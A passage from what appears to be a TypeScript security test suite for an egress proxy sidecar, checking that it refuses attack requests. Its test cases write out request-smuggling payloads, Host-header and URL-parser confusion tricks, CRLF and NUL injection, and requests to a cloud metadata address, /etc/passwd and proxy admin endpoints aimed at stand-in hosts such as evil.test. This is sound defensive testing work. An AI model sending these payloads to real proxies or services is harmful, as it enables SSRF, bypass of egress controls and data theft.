    { name: 'literal *.cdn.allowed.test:443 (inside the allowed wildcard)', payload: connectReq('*.cdn.allowed.test:443'), intended: '*.cdn.allowed.test:443', outcome: 'benign', benignHost: /^\*\.cdn\.allowed\.test/, extra: (ev) => expect(ev.tlsUpstream.connections).toBeLessThanOrEqual(1) },
    { name: 'homoglyph (Cyrillic а) in raw UTF-8', payload: Buffer.from(connectReq('\u0430pi.allowed.test:443'), 'utf8'), intended: null },
    ...[
      'evil.cdn.allowed.test',
      'EVIL.CDN.ALLOWED.TEST',
      'Evil.Cdn.Allowed.Test.',
      'evil.cdn.allowed.test.',
    ].map((h): Variant => ({ name: `denied ${h}:443`, payload: connectReq(`${h}:443`), intended: `${h}:443`, reason: REASON.denyRule })),
    ...['evil.cdn.allowed.test..', 'evil%2ecdn.allowed.test', 'evil.cdn.allowed.test%2e', 'evil.cdn.allowed.test\t', 'evil.cdn.allowed.test%00'].map(
      (h): Variant => ({ name: `denied, mangled ${JSON.stringify(h)}:443`, payload: connectReq(`${h}:443`), intended: null }),
    ),
    { name: 'denied name over plain HTTP (http://evil.cdn.allowed.test:443/)', payload: getReq('http://evil.cdn.allowed.test:443/', 'evil.cdn.allowed.test:443'), intended: 'http://evil.cdn.allowed.test:443/', reason: REASON.denyRule },
    { name: 'denied name, https absolute URI', payload: getReq('https://evil.cdn.allowed.test/', 'evil.cdn.allowed.test'), intended: null },
    { name: 'apex of a wildcard over plain HTTP', payload: getReq('http://cdn.allowed.test:443/', 'cdn.allowed.test:443'), intended: 'http://cdn.allowed.test:443/', reason: REASON.nothing },
  ]);

  // -------------------------------------------------------------------------------------------
  // 7. Every place a request can name a host: Host vs URI, userinfo, schemes, injection,
  //    percent-encoding, long names, HTTP/1.0, origin-form, smuggling

  const PLAIN = 'http://plain.allowed.test/ping';
  const benign = (name: string, payload: string | Buffer, intended = PLAIN): Variant => ({ name, payload, intended, outcome: 'benign' });
  const smuggled = 'GET http://evil.test/steal HTTP/1.1\r\nHost: evil.test\r\n\r\n';
  each(7, 'requests naming a host in several places', [
    // Host header vs URI
    benign('absolute URI allowed, Host: evil.test', getReq(PLAIN, 'evil.test')),
    benign('absolute URI allowed, Host: 169.254.169.254', getReq(PLAIN, '169.254.169.254')),
    benign('absolute URI allowed, Host: evil.test:443', getReq(PLAIN, 'evil.test:443')),
    benign('absolute URI allowed, two Host headers (allowed, evil)', getReq(PLAIN, 'plain.allowed.test', 'Host: evil.test\r\n')),
    { name: 'absolute URI evil, Host: plain.allowed.test', payload: getReq('http://evil.test/steal', 'plain.allowed.test'), intended: 'http://evil.test/steal', reason: REASON.nothing },
    { name: 'origin-form, Host: evil.test', payload: getReq('/steal', 'evil.test'), intended: 'http://evil.test/steal', reason: REASON.nothing },
    { name: 'origin-form, Host: evil.test:80', payload: getReq('/steal', 'evil.test:80'), intended: 'http://evil.test:80/steal', reason: REASON.nothing },
    { name: 'origin-form, Host: 169.254.169.254', payload: getReq('/latest/meta-data/', '169.254.169.254'), intended: 'http://169.254.169.254/latest/meta-data/' },
    { name: 'origin-form, Host: evil.cdn.allowed.test:443', payload: getReq('/', 'evil.cdn.allowed.test:443'), intended: 'http://evil.cdn.allowed.test:443/', reason: REASON.denyRule },
    { name: 'origin-form, no Host (HTTP/1.1)', payload: getReq('/steal', null), intended: null },
    { name: 'origin-form, two Host headers (allowed, evil)', payload: getReq('/steal', 'plain.allowed.test', 'Host: evil.test\r\n'), intended: null },
    { name: 'origin-form, two Host headers (evil, allowed)', payload: getReq('/steal', 'evil.test', 'Host: plain.allowed.test\r\n'), intended: null },
    { name: 'origin-form, empty Host', payload: getReq('/steal', ''), intended: null },
    // HTTP/1.0
    { name: 'HTTP/1.0 origin-form without Host', payload: 'GET /steal HTTP/1.0\r\n\r\n', intended: null },
    { name: 'HTTP/1.0 absolute URI to evil', payload: 'GET http://evil.test/steal HTTP/1.0\r\n\r\n', intended: 'http://evil.test/steal' },
    { name: 'HTTP/1.0 origin-form, Host: evil.test', payload: 'GET /steal HTTP/1.0\r\nHost: evil.test\r\n\r\n', intended: 'http://evil.test/steal' },
    { name: 'HTTP/0.9 simple request', payload: 'GET /\r\n', intended: null },
    { name: 'HTTP/2.0 version on an HTTP/1 request line', payload: getReq('http://evil.test/', 'evil.test', '', 'GET', 'HTTP/2.0'), intended: null },
    // userinfo and URL parser confusion
    { name: 'userinfo: http://plain.allowed.test@evil.test/', payload: getReq('http://plain.allowed.test@evil.test/', 'evil.test'), intended: null },
    { name: 'userinfo: http://plain.allowed.test:80@evil.test/', payload: getReq('http://plain.allowed.test:80@evil.test/', 'evil.test'), intended: null },
    { name: 'userinfo, Host allowed: http://plain.allowed.test@evil.test/', payload: getReq('http://plain.allowed.test@evil.test/', 'plain.allowed.test'), intended: null },
    { ...benign('userinfo the other way: http://evil.test@plain.allowed.test/', getReq('http://evil.test@plain.allowed.test/', 'plain.allowed.test')), intended: null },
    { name: 'encoded @: http://plain.allowed.test%40evil.test/', payload: getReq('http://plain.allowed.test%40evil.test/', 'plain.allowed.test'), intended: null },
    { name: 'fragment before @: http://evil.test#@plain.allowed.test/', payload: getReq('http://evil.test#@plain.allowed.test/', 'plain.allowed.test'), intended: null },
    { name: 'backslash before @: http://evil.test\\@plain.allowed.test/', payload: getReq('http://evil.test\\@plain.allowed.test/', 'plain.allowed.test'), intended: null },
    { name: 'query before @: http://evil.test?@plain.allowed.test/', payload: getReq('http://evil.test?@plain.allowed.test/', 'plain.allowed.test'), intended: null },
    { name: 'backslash authority: http:\\\\evil.test\\', payload: getReq('http:\\\\evil.test\\', 'evil.test'), intended: null },
    { name: 'one slash: http:/evil.test/', payload: getReq('http:/evil.test/', 'evil.test'), intended: null },
    { name: 'no slash: http:evil.test/', payload: getReq('http:evil.test/', 'evil.test'), intended: null },
    { name: 'network-path: //evil.test/', payload: getReq('//evil.test/', 'evil.test'), intended: null },
    { name: 'empty port: http://evil.test:/', payload: getReq('http://evil.test:/', 'evil.test'), intended: null },
    { name: 'three slashes: http:///evil.test/', payload: getReq('http:///evil.test/', 'evil.test'), intended: null },
    // schemes
    { name: 'upper-case scheme and host: HTTP://EVIL.TEST/', payload: getReq('HTTP://EVIL.TEST/', 'EVIL.TEST'), intended: null },
    { name: 'https absolute URI to evil: https://evil.test/', payload: getReq('https://evil.test/', 'evil.test'), intended: null },
    { name: 'https absolute URI to evil with port: https://evil.test:443/', payload: getReq('https://evil.test:443/', 'evil.test:443'), intended: 'evil.test:443', reason: REASON.nothing },
    { name: 'https absolute URI to an allowed TLS host without port (never cleartext to :80)', payload: getReq('https://api.allowed.test/', 'api.allowed.test'), intended: null },
    { name: 'ftp://evil.test/', payload: getReq('ftp://evil.test/', 'evil.test'), intended: null },
    { name: 'ws://evil.test/', payload: getReq('ws://evil.test/', 'evil.test'), intended: null },
    { name: 'file:///etc/passwd', payload: getReq('file:///etc/passwd', 'evil.test'), intended: null },
    // other headers that name hosts: never used for routing
    ...[
      'X-Forwarded-Host: evil.test',
      'Forwarded: host=evil.test;proto=http',
      'X-Original-URL: http://evil.test/steal',
      'X-Rewrite-URL: http://evil.test/steal',
      'X-Envoy-Original-Dst-Host: 10.0.0.5:80',
      'X-Envoy-Original-Host: evil.test',
      'X-Host: evil.test',
      'X-Forwarded-Server: evil.test',
      'X-HTTP-Host-Override: evil.test',
    ].map((h) => benign(`allowed URI with ${h.split(':')[0]}`, getReq(PLAIN, 'plain.allowed.test', `${h}\r\n`))),
    { name: 'pseudo-header as a header (:authority: evil.test)', payload: getReq('/steal', 'plain.allowed.test', ':authority: evil.test\r\n'), intended: null },
    // injection into the request line and Host
    { name: 'CRLF in CONNECT target', payload: 'CONNECT api.allowed.test:443\r\nHost: evil.test:443 HTTP/1.1\r\n\r\n', intended: null },
    { name: 'space-separated second target in CONNECT', payload: 'CONNECT evil.test:443 api.allowed.test:443 HTTP/1.1\r\nHost: api.allowed.test:443\r\n\r\n', intended: null },
    { name: 'NUL inside CONNECT host', payload: connectReq('api.allowed.test\x00.evil.test:443', 'api.allowed.test:443'), intended: null },
    { name: 'NUL between allowed target and evil', payload: connectReq('api.allowed.test:443\x00evil.test:443', 'api.allowed.test:443'), intended: null },
    { name: 'NUL inside absolute URI host', payload: getReq('http://plain.allowed.test\x00.evil.test/', 'plain.allowed.test'), intended: null },
    { name: 'NUL in Host header (origin-form)', payload: getReq('/steal', 'plain.allowed.test\x00evil.test'), intended: null },
    { name: 'CR inside Host header', payload: getReq('/steal', 'plain.allowed.test\rHost: evil.test'), intended: null },
    { name: 'obs-fold continuation of Host', payload: getReq('/steal', 'plain.allowed.test\r\n evil.test'), intended: null },
    { name: 'tabs in the request line', payload: 'GET\thttp://evil.test/\tHTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n', intended: null },
    { name: 'bare LF line endings, origin-form Host evil', payload: 'GET /steal HTTP/1.1\nHost: evil.test\nConnection: close\n\n', intended: null },
    { name: 'space inside the absolute URI host', payload: getReq('http://plain.allowed.test evil.test/', 'plain.allowed.test'), intended: null },
    { name: 'absolute URI, space then @evil path', payload: getReq('http://plain.allowed.test /@evil.test/', 'plain.allowed.test'), intended: null },
    { name: 'space before the Host colon', payload: 'GET /steal HTTP/1.1\r\nHost : evil.test\r\nConnection: close\r\n\r\n', intended: null },
    // percent-encoding and long names
    { name: 'percent-encoded host (CONNECT %65vil.test)', payload: connectReq('%65vil.test:443'), intended: null },
    { name: 'percent-encoded dots (CONNECT api%2eallowed%2etest)', payload: connectReq('api%2eallowed%2etest:443'), intended: null },
    { name: 'percent-encoded host in absolute URI (http://%65vil.test/)', payload: getReq('http://%65vil.test/', '%65vil.test'), intended: null },
    { name: 'percent-encoded slash then @ (http://plain.allowed.test%2f@evil.test/)', payload: getReq('http://plain.allowed.test%2f@evil.test/', 'plain.allowed.test'), intended: null },
    { name: '300-character host under evil.test', payload: connectReq(`${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(63)}.${'e'.repeat(30)}.evil.test:443`), intended: null },
    { name: '64-character label', payload: connectReq(`${'a'.repeat(64)}.evil.test:443`), intended: null },
    { name: '70 KB host (header limits)', payload: connectReq(`${'a'.repeat(70_000)}.evil.test:443`), intended: null },
    { name: 'allowed name followed by 5,000 dots', payload: connectReq(`api.allowed.test${'.'.repeat(5000)}:443`), intended: null },
    // request smuggling
    { name: 'smuggling CL.TE (both headers)', payload: `POST http://plain.allowed.test/ HTTP/1.1\r\nHost: plain.allowed.test\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`, intended: null, opts: { expect: 2 } },
    { name: 'smuggling TE.CL', payload: `POST http://plain.allowed.test/ HTTP/1.1\r\nHost: plain.allowed.test\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n${(smuggled.length).toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`, intended: null, opts: { expect: 2 } },
    ...['xchunked', 'chunked, identity', ' chunked', 'chunked\r\nTransfer-Encoding: identity', 'CHUNKED', 'chunked;q=1'].map(
      (te): Variant => ({
        name: `smuggling with Transfer-Encoding: ${JSON.stringify(te)} and Content-Length`,
        payload: `POST http://plain.allowed.test/ HTTP/1.1\r\nHost: plain.allowed.test\r\nContent-Length: 5\r\nTransfer-Encoding: ${te}\r\n\r\n0\r\n\r\n${smuggled}`,
        intended: null,
        opts: { expect: 2 },
      }),
    ),
    { name: 'smuggling with "Transfer-Encoding :" (space before colon)', payload: `POST http://plain.allowed.test/ HTTP/1.1\r\nHost: plain.allowed.test\r\nContent-Length: 5\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n${smuggled}`, intended: null, opts: { expect: 2 } },
    { name: 'smuggling with two different Content-Length values', payload: `POST http://plain.allowed.test/ HTTP/1.1\r\nHost: plain.allowed.test\r\nContent-Length: 0\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`, intended: null, opts: { expect: 2 } },
    { name: 'smuggling with Content-Length: -1', payload: `POST http://plain.allowed.test/ HTTP/1.1\r\nHost: plain.allowed.test\r\nContent-Length: -1\r\n\r\n${smuggled}`, intended: null, opts: { expect: 2 } },
    { name: 'smuggling with a bare-LF chunk terminator', payload: `POST http://plain.allowed.test/ HTTP/1.1\r\nHost: plain.allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n0\n\r\n${smuggled}`, intended: null, opts: { expect: 2 } },
    {
      name: 'pipelined: an allowed request, then one to evil',
      payload: `GET ${PLAIN} HTTP/1.1\r\nHost: plain.allowed.test\r\n\r\n${smuggled}`,
      intended: 'http://evil.test/steal',
      outcome: 'benign',
      opts: { expect: 2 },
      extra: (ev) => {
        // The first is allowed and forwarded; the second is refused and never reaches anything.
        expect(ev.statuses).toEqual([200, 403]);
        expect(ev.httpUpstream.requests.map((r) => r.url)).toEqual(['/ping']);
      },
    },
    {
      name: 'a CONNECT to evil carried in the body of an allowed POST',
      payload: `POST ${PLAIN} HTTP/1.1\r\nHost: plain.allowed.test\r\nConnection: close\r\nContent-Length: ${connectReq('evil.test:443').length}\r\n\r\n${connectReq('evil.test:443')}`,
      intended: PLAIN,
      outcome: 'benign',
    },
    {
      name: 'pipelined after an allowed CONNECT (second CONNECT is early data)',
      payload: `${connectReq('api.allowed.test:443')}${connectReq('evil.test:443')}`,
      intended: null,
      outcome: 'benign',
      benignHost: /^api\.allowed\.test/,
      opts: { connect: true },
    },
  ]);

  // -------------------------------------------------------------------------------------------
  // 8. Transparent TLS by SNI: a different world (agent and sidecar in one pod namespace behind
  // the shipped nft redirect), so its variants run in transparent.test.ts, which prints its own tally.

  registerClass(8, 'transparent TLS by SNI');
  noteClass(8, 'runs in test/security/transparent.test.ts (its own sealed pod world and summary)');

  // -------------------------------------------------------------------------------------------
  // 9. Method or path outside an L7 rule

  registerClass(9, 'method or path outside an L7 rule');
  if (!L7.ok) {
    noteClass(9, `L7 rules are not supported by this build: ${L7.why}`);
    it.todo(`#9 L7 rules (skipped: this build refuses http rules: ${L7.why.slice(0, 120)})`);
  } else {
    const L7URL = 'http://l7.allowed.test';
    const l7 = (name: string, method: string, p: string, extra = ''): Variant => ({
      name,
      payload: `${method} ${L7URL}${p} HTTP/1.1\r\nHost: l7.allowed.test\r\nConnection: close\r\n${extra}\r\n`,
      intended: null,
      extra: (ev) => {
        for (const r of ev.httpUpstream.requests) {
          if (r.method !== 'GET' || !r.url.startsWith('/v1/')) throw new Error(`forwarded ${r.method} ${r.url}`);
        }
      },
    });
    describe('#9 L7 rules (GET /v1/* on l7.allowed.test:80)', () => {
      it('#9 the rule allows GET /v1/x (so refusals below are the rule, not an outage)', async () => {
        const ev = await attempt(world, `GET ${L7URL}/v1/x HTTP/1.1\r\nHost: l7.allowed.test\r\nConnection: close\r\n\r\n`);
        expect(ev.final?.status).toBe(200);
      });
    });
    each(9, 'method or path outside an L7 rule', [
      l7('DELETE /v1/x', 'DELETE', '/v1/x'),
      l7('POST /v1/x', 'POST', '/v1/x', 'Content-Length: 0\r\n'),
      l7('PUT /v1/x', 'PUT', '/v1/x', 'Content-Length: 0\r\n'),
      l7('lower-case get', 'get', '/v1/x'),
      l7('unknown method FOO', 'FOO', '/v1/x'),
      l7('POST with X-HTTP-Method-Override: GET', 'POST', '/v1/x', 'X-HTTP-Method-Override: GET\r\nContent-Length: 0\r\n'),
      l7('GET /admin', 'GET', '/admin'),
      l7('GET /v1/../admin', 'GET', '/v1/../admin'),
      l7('GET /v1/%2e%2e/admin', 'GET', '/v1/%2e%2e/admin'),
      l7('GET /v1/%2E%2E/admin', 'GET', '/v1/%2E%2E/admin'),
      l7('GET /v1%2fadmin (escaped slash)', 'GET', '/v1%2fadmin'),
      l7('GET /v1%2F..%2Fadmin', 'GET', '/v1%2F..%2Fadmin'),
      l7('GET //admin', 'GET', '//admin'),
      l7('GET /V1/x (case)', 'GET', '/V1/x'),
      l7('GET /v1 (prefix without slash)', 'GET', '/v1'),
      l7('GET /v1x/y (prefix look-alike)', 'GET', '/v1x/y'),
      l7('GET /admin?x=/v1/', 'GET', '/admin?x=/v1/'),
      l7('GET /admin#/v1/x', 'GET', '/admin#/v1/x'),
      l7('GET /admin;/v1/x', 'GET', '/admin;/v1/x'),
      l7('GET /%76%31/../admin', 'GET', '/%76%31/../admin'),
      l7('GET /v1/..%5cadmin (backslash)', 'GET', '/v1/..%5cadmin'),
      // Envoy canonicalises "\\" to "/" and forwards /v1/admin: inside the allowed prefix, so benign.
      { ...l7('GET /v1/\\..\\admin (raw backslash)', 'GET', '/v1/\\..\\admin'), outcome: 'benign', benignHost: /^l7\.allowed\.test$/ },
      l7('GET *', 'GET', '*'),
      { name: 'CONNECT to the L7 host (tunnels cannot carry L7 rules)', payload: connectReq('l7.allowed.test:80'), intended: 'l7.allowed.test:80' },
      { name: 'origin-form DELETE with Host: l7.allowed.test', payload: 'DELETE /v1/x HTTP/1.1\r\nHost: l7.allowed.test\r\nConnection: close\r\n\r\n', intended: null },
    ]);
  }

  // -------------------------------------------------------------------------------------------
  // 10. The sidecar's admin interface, the xDS port and the admin API, through the proxy

  describe('#10 the sidecar and control plane themselves', () => {
    registerClass(10, "the sidecar's admin, the xDS port, the control plane's admin API");
    it('#10 Envoy listens on no TCP port but the egress listener', async () => {
      await countedVariant(10, async () => {
        const listening = [...new Set(await world.envoyListeningSockets())];
        expect(listening).toEqual([`${SEALED.sidecar}:${SEALED.listenPort}`]);
      });
    });
    it.each([
      ['CONNECT 127.0.0.1:XDS', 'connect', '127.0.0.1:XDS'],
      ['CONNECT [::1]:XDS', 'connect', '[::1]:XDS'],
      ['CONNECT localhost:XDS', 'connect', 'localhost:XDS'],
      ['CONNECT 127.0.0.1:ADMIN', 'connect', '127.0.0.1:ADMIN'],
      ['CONNECT 2130706433:ADMIN', 'connect', '2130706433:ADMIN'],
      ['GET http://127.0.0.1:ADMIN/v1/nodes', 'get', 'http://127.0.0.1:ADMIN/v1/nodes'],
      ['GET http://localhost:ADMIN/v1/decisions', 'get', 'http://localhost:ADMIN/v1/decisions'],
      ['GET http://[::ffff:127.0.0.1]:ADMIN/v1/nodes', 'get', 'http://[::ffff:127.0.0.1]:ADMIN/v1/nodes'],
      ['GET http://0.0.0.0:ADMIN/v1/nodes', 'get', 'http://0.0.0.0:ADMIN/v1/nodes'],
      ['origin-form GET /v1/nodes with Host 127.0.0.1:ADMIN', 'origin', '127.0.0.1:ADMIN'],
      ['CONNECT 127.0.0.1:9901 (Envoy admin default)', 'connect', '127.0.0.1:9901'],
      ['CONNECT 127.0.0.1:15000', 'connect', '127.0.0.1:15000'],
      ['GET http://127.0.0.1:9901/config_dump', 'get', 'http://127.0.0.1:9901/config_dump'],
      ['GET http://localhost:15000/quitquitquit', 'get', 'http://localhost:15000/quitquitquit'],
      ['CONNECT the listener itself (198.18.0.1:15001)', 'connect', `${SEALED.sidecar}:${SEALED.listenPort}`],
      ['GET the listener itself (http://198.18.0.1:15001/)', 'get', `http://${SEALED.sidecar}:${SEALED.listenPort}/`],
      ['CONNECT the DNS server (198.51.100.53:53)', 'connect', `${SEALED.dns}:53`],
    ] as const)('#10 %s', async (_n, kind, tmpl) => {
      const t = tmpl.replace('XDS', String(world.cp.xdsPort)).replace('ADMIN', String(world.cp.adminPort));
      const payload = kind === 'connect' ? connectReq(t) : kind === 'get' ? getReq(t, t.replace(/^http:\/\//, '').replace(/\/.*$/, '')) : getReq('/v1/nodes', t);
      await run(10, { name: t, payload, intended: kind === 'origin' ? `http://${t}/v1/nodes` : t, reason: REASON.nothing });
    });
    it('#10 a sidecar answering its own listener does not loop or crash', async () => {
      expect(world.sidecar.envoy.exitStatus).toBeUndefined();
      const ready = await world.sidecar.envoy.admin('/ready');
      expect(ready.body.trim()).toBe('LIVE');
    });
  });

  // -------------------------------------------------------------------------------------------
  // 11, 12. Credential injection

  registerClass(11, 'agent-supplied credential next to an injected one');
  registerClass(12, 'credential for host A sent to host B');
  if (!CREDS.ok) {
    noteClass(11, `credentials are not supported by this build: ${CREDS.why.slice(0, 120)}`);
    noteClass(12, 'credentials are not supported by this build');
    it.todo(`#11 agent-supplied Authorization is replaced by the injected credential (skipped: ${CREDS.why.slice(0, 100)})`);
    it.todo('#12 a credential for cred.allowed.test is never sent to another host (skipped: credentials not supported)');
  } else {
    // tls: originate: the agent speaks plain HTTP naming the host; Envoy opens TLS to :443 and injects.
    const CRED = 'http://cred.allowed.test/v1/x';
    const injectedOnly = (ev: Evidence): void => {
      expect(ev.tlsUpstream.requests.length).toBeGreaterThan(0);
      for (const r of ev.tlsUpstream.requests) {
        expect(r.headers.authorization).toBe(`Bearer ${INJECTED_SECRET}`);
        expect(JSON.stringify(r.headers)).not.toMatch(/agent-supplied|proxy-secret/);
      }
    };
    const credVariant = (name: string, extra: string): Variant => ({
      name,
      payload: getReq(CRED, 'cred.allowed.test', extra),
      intended: CRED,
      outcome: 'benign',
      benignHost: /^cred\.allowed\.test(:443)?$/,
      extra: injectedOnly,
    });
    each(11, 'agent-supplied credential next to an injected one', [
      credVariant('Authorization: Bearer agent-supplied', 'Authorization: Bearer agent-supplied\r\n'),
      credVariant('lower-case authorization header', 'authorization: Bearer agent-supplied\r\n'),
      credVariant('two agent Authorization headers', 'Authorization: Bearer agent-supplied\r\nAuthorization: Basic agent-supplied\r\n'),
      credVariant('Proxy-Authorization (proxy hop only)', 'Proxy-Authorization: Basic proxy-secret\r\n'),
      credVariant('agent header with trailing whitespace', 'Authorization:    Bearer agent-supplied   \r\n'),
    ]);
    const noSecret = (ev: Evidence): void => {
      for (const r of [...ev.httpUpstream.requests, ...ev.tlsUpstream.requests]) expect(JSON.stringify(r.headers)).not.toContain(INJECTED_SECRET);
      expect(ev.exchange.raw.toString('latin1')).not.toContain(INJECTED_SECRET);
    };
    each(12, 'credential for host A sent to host B', [
      { ...benign('the credential host in the Host header, another host in the URI', getReq(PLAIN, 'cred.allowed.test')), extra: noSecret },
      { ...benign('the credential host as userinfo', getReq('http://cred.allowed.test@plain.allowed.test/ping', 'plain.allowed.test')), intended: null, extra: noSecret },
      { ...benign('X-Forwarded-Host: cred.allowed.test', getReq(PLAIN, 'plain.allowed.test', 'X-Forwarded-Host: cred.allowed.test\r\n')), extra: noSecret },
      { name: 'the credential host on another port', payload: getReq('http://cred.allowed.test:8080/v1/x', 'cred.allowed.test:8080'), intended: 'http://cred.allowed.test:8080/v1/x', extra: noSecret },
      { name: 'the credential host over CONNECT (a tunnel cannot carry a credential)', payload: connectReq('cred.allowed.test:443'), intended: 'cred.allowed.test:443', extra: noSecret },
      { name: 'the credential host by its address', payload: getReq(`http://${SEALED.tlsUpstream}/v1/x`, 'cred.allowed.test'), intended: `http://${SEALED.tlsUpstream}/v1/x`, extra: noSecret },
    ]);
  }

  // -------------------------------------------------------------------------------------------
  // 13. Upgrade tricks

  const ws = 'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';
  const h2c = 'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n';
  const noUpgradeCompleted = (ev: Evidence): void => {
    expect(ev.statuses).not.toContain(101);
  };
  each(13, 'upgrade tricks', [
    { name: 'websocket to evil', payload: getReq('http://evil.test/ws', 'evil.test', ws), intended: 'http://evil.test/ws', reason: REASON.nothing },
    { name: 'websocket to evil, origin-form', payload: getReq('/ws', 'evil.test', ws), intended: 'http://evil.test/ws' },
    { name: 'websocket to metadata by address', payload: getReq('http://169.254.169.254/ws', '169.254.169.254', ws), intended: 'http://169.254.169.254/ws' },
    { name: 'websocket to a rebinding name', payload: getReq('http://meta.rebind.test/ws', 'meta.rebind.test', ws), intended: 'http://meta.rebind.test/ws' },
    { ...benign('websocket to the allowed plain host (refused or only to it)', getReq(PLAIN, 'plain.allowed.test', ws)) },
    { name: 'h2c upgrade to evil', payload: getReq('http://evil.test/', 'evil.test', h2c), intended: 'http://evil.test/', reason: REASON.nothing },
    { ...benign('h2c upgrade to the allowed host is not honoured', getReq(PLAIN, 'plain.allowed.test', h2c)), extra: noUpgradeCompleted },
    { name: 'Upgrade: CONNECT to evil', payload: getReq('http://evil.test/', 'evil.test', 'Connection: Upgrade\r\nUpgrade: CONNECT\r\n'), intended: 'http://evil.test/' },
    { name: 'connect-udp (RFC 9298 over HTTP/1.1) via the allowed host to 10.0.0.5:53', payload: getReq('http://plain.allowed.test/.well-known/masque/udp/10.0.0.5/53/', 'plain.allowed.test', 'Connection: Upgrade\r\nUpgrade: connect-udp\r\nCapsule-Protocol: ?1\r\n'), intended: 'http://plain.allowed.test/.well-known/masque/udp/10.0.0.5/53/', outcome: 'benign', extra: noUpgradeCompleted },
    { name: 'connect-udp to evil', payload: getReq('http://evil.test/.well-known/masque/udp/10.0.0.5/53/', 'evil.test', 'Connection: Upgrade\r\nUpgrade: connect-udp\r\n'), intended: 'http://evil.test/.well-known/masque/udp/10.0.0.5/53/' },
    { name: 'Upgrade header on a CONNECT to evil', payload: connectReq('evil.test:443', 'evil.test:443', 'Connection: Upgrade\r\nUpgrade: websocket\r\n'), intended: 'evil.test:443' },
    { name: 'HTTP/2 prior knowledge (connection preface)', payload: Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00', 'latin1'), intended: null },
    { name: 'extended CONNECT spelled on HTTP/1 (:protocol header)', payload: connectReq('evil.test:443', 'evil.test:443', ':protocol: websocket\r\n'), intended: null },
  ]);

  // -------------------------------------------------------------------------------------------
  // 14. Revocation cuts open tunnels within 1 s

  registerClass(14, 'revoked destination while a tunnel is open');
  describe('#14 revocation of an open tunnel', () => {
    it('#14 a tunnel to a destination whose rule is removed is closed within 1 s (SPEC §6.2)', async () => {
      const original = fs.readFileSync(path.join(world.policiesDir, 'acme.yaml'), 'utf8');
      try {
        await countedVariant(14, async () => {
          const ev = await attempt(world, connectReq('x.cdn.allowed.test:443'), { connect: true, keepTunnel: true });
          expect(ev.exchange.tunnel).toBeDefined();
          const tunnel = ev.exchange.tunnel!;
          const closed = new Promise<number>((resolve) => tunnel.once('close', () => resolve(performance.now())));
          tunnel.on('error', () => undefined);
          tunnel.on('data', () => undefined);
          const revoked = original.replace(/    - name: cdn\n      hosts: \["\*\.cdn\.allowed\.test"\]\n      ports: \[443\]\n/, '');
          expect(revoked).not.toBe(original);
          const t0 = performance.now();
          await world.applyPolicies({ 'acme.yaml': revoked });
          const tAck = performance.now();
          const result = await Promise.race([closed, new Promise<null>((r) => setTimeout(() => r(null), 1500))]);
          tunnel.destroy();
          const after = await attempt(world, connectReq('x.cdn.allowed.test:443'), { connect: true });
          expect(after.final?.status).toBe(403);
          if (result === null) throw new Error(`the open tunnel survived the revocation (ACKed after ${(tAck - t0).toFixed(0)} ms, still open 1.5 s later); SPEC §6.2 requires it to close within 1 s`);
          expect(result - t0).toBeLessThan(1000);
          noteClass(14, `tunnel closed ${(result - t0).toFixed(0)} ms after the policy write`);
        });
      } finally {
        await world.applyPolicies({ 'acme.yaml': original });
      }
    }, 30_000);
  });

  // -------------------------------------------------------------------------------------------
  // 15. Control plane away: last good configuration stays, never open

  describe('#15 control plane unreachable', () => {
    registerClass(15, 'control plane down / NACK');
    noteClass(15, 'NACK handling end to end: test/e2e/nack-e2e.test.ts');
    it('#15 with the control plane cut off, the sidecar keeps refusing what it refused', async () => {
      await world.cutControlPlane();
      try {
        await new Promise((r) => setTimeout(r, 300));
        for (const v of [
          { name: 'evil while cut off', payload: connectReq('evil.test:443'), intended: 'evil.test:443' },
          { name: 'metadata by address while cut off', payload: getReq('http://169.254.169.254/latest/', '169.254.169.254'), intended: 'http://169.254.169.254/latest/' },
          { name: 'rebinding while cut off', payload: connectReq('ten.rebind.test:443'), intended: 'ten.rebind.test:443', outcome: 'guard' as const },
        ]) {
          // Decisions cannot reach a control plane that is away: judge by Envoy's evidence only.
          await countedVariant(15, async () => {
            const ev = await attempt(world, v.payload, { connect: v.payload.startsWith('CONNECT') });
            expect(ev.reachedSidecar).toBe(true);
            expect(refusal(ev)).not.toBeNull();
          });
        }
        const allowed = await attempt(world, connectReq('api.allowed.test:443'), { connect: true });
        expect(allowed.final?.status).toBe(200);
      } finally {
        await world.restoreControlPlane();
      }
      // Reconnected and in sync again before the next test.
      await world.sidecar.envoy.waitFor(async () => world.cp.registry.list().some((n) => n.node === world.sidecar.nodeId && !n.disconnectedAt), 15_000, 'the sidecar to reconnect');
      await world.waitRoutesAcked();
    }, 30_000);
  });

  // -------------------------------------------------------------------------------------------
  // 16. Another agent's identity on the xDS stream

  describe('#16 xDS identity', () => {
    registerClass(16, "another agent's identity on the xDS stream");
    noteClass(16, 'certificate/node-id binding: test/xds/mtls-isolation.test.ts and test/e2e/egress-mtls.test.ts');
    it('#16 the agent cannot reach any xDS endpoint to present an identity at all', async () => {
      await countedVariant(16, async () => {
        expect(await world.agent.unixConnect(world.xdsRelayPath)).toMatchObject({ connected: false });
        for (const host of ['127.0.0.1', SEALED.sidecar]) {
          const r = await world.agent.connectTcp(host, world.cp.xdsPort, 1000);
          r.socket?.destroy();
          expect(r.socket).toBeUndefined();
        }
        const ev = await attempt(world, connectReq(`xds.internal.test:${world.cp.xdsPort}`), { connect: true });
        expect(refusal(ev)).not.toBeNull();
      });
    });
  });

  // -------------------------------------------------------------------------------------------
  // 17. Flood: many CONNECTs, slow clients, pipelining, huge headers

  describe('#17 flood', () => {
    registerClass(17, 'flood');
    const N = 300;
    it(`#17 ${N} concurrent CONNECTs to a denied host are all refused, quickly, and the sidecar stays up`, async () => {
      await countedVariant(17, async () => {
